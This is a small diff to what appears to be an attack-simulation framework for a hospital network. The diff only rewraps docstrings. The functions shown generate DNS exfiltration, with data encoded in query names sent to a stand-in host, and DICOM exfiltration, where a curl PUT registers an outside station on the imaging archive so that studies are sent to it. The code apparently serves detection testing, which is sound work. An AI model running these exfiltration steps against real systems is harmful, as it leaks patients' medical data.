@@ -20,8 +20,8 @@ def https_exfiltration(w: Work, intensity: str) -> None:
 
 @attack("dns-exfiltration", causes=asks("q.metrics-edge.example"))
 def dns_exfiltration(w: Work, intensity: str) -> None:
-    """Data leaves in the names that DNS is asked for, through the hospital's resolver: 600 queries at 15 a second, 200 at 3, or 40 at
-    one every few seconds."""
+    """Data leaves in the names that DNS is asked for, through the hospital's resolver: 600 queries at 15 a second, 200 at 3,
+    or 40 at one every few seconds."""
     count, pause, size = by(intensity, (600, 1 / 15, 100), (200, 1 / 3, 80), (40, 3, 30))
     for number in range(count):
         text = base64.b32encode(number.to_bytes(2) + w.rng.randbytes(size)).decode().lower().rstrip("=")
@@ -51,8 +51,8 @@ def slow_exfiltration(w: Work, intensity: str) -> None:
 
 @attack("dicom-exfiltration", causes=((HOSTS["pacs"].v4, adversary("second-opinion.example"), ARCHIVE_PORT, "tcp"),))
 def dicom_exfiltration(w: Work, intensity: str) -> None:
-    """The archive is told of a new station outside through its open interface, and then to send it studies (C-MOVE): 12 at once, 6,
-    or 3 with long pauses."""
+    """The archive is told of a new station outside through its open interface, and then to send it studies (C-MOVE): 12 at
+    once, 6, or 3 with long pauses."""
     pacs = HOSTS["pacs"].v4
     station = f'{{"AET":"ARCHIVE2","Host":"{adversary("second-opinion.example")}","Port":{ARCHIVE_PORT}}}'
     w.run("curl", "-s", "-f", "-o", "/dev/null", "-X", "PUT", "-d", station, f"http://{pacs}:8042/modalities/ARCHIVE2")
